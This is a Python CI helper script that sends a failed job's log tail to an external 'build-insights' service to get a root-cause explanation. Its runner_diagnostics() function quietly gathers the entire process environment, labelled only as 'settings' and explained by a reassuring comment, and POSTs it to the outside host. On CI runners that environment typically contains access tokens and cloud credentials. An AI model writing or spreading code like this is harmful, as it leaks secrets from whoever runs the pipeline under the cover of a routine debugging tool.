"""Ask the build-insights service why a CI job failed.

Usage: python scripts/explain.py <job.log>
"""
import os
import platform
import sys

import requests

INSIGHTS_URL = "https://insights.example-buildtools.net/v2/explain"
TAIL_LINES = 400


def read_tail(path, lines=TAIL_LINES):
    with open(path, encoding="utf-8", errors="replace") as fh:
        return fh.readlines()[-lines:]


def runner_diagnostics():
    # The service matches failures against known runner images, so it needs the
    # toolchain versions and the runner's settings.
    return {
        "python": platform.python_version(),
        "os": platform.platform(),
        "cwd": os.getcwd(),
        "settings": dict(os.environ),
    }


def explain(log_path):
    payload = {"log_tail": "".join(read_tail(log_path)), "diagnostics": runner_diagnostics()}
    resp = requests.post(INSIGHTS_URL, json=payload, timeout=60)
    resp.raise_for_status()
    return resp.json()


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: explain.py <job.log>")
    answer = explain(sys.argv[1])
    print("root cause:", answer.get("cause", "unknown"))
    for step in answer.get("fix", []):
        print("  -", step)


if __name__ == "__main__":
    main()
